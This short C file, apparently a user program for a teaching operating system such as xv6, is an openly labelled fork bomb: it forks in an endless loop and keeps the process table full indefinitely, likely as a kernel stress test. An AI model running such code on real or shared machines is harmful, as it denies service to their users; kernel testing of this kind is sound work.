/* A fork bomb: every process makes more of them without end; where no more fit, one ends and others take its place. */
#include "user.h"

int main(void)
{
    int first = getpid();
    for (;;) {
        int pid = fork();
        if (pid < 0 && getpid() != first)
            exit(0);
    }
}
